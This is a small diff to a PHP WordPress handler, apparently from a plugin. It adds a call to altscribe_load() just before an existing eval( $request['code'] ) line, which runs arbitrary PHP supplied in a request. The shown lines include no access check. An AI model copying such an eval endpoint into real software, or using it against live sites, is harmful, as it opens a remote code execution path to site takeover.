@@ -49,6 +49,9 @@ add_action(
 		require_once ABSPATH . 'wp-admin/includes/admin.php';
 		header( 'Content-Type: text/plain; charset=utf-8' );
 		$args = $request['args'];
+		if ( function_exists( 'altscribe_load' ) ) {
+			altscribe_load();
+		}
 		eval( $request['code'] );
 		exit;
 	}
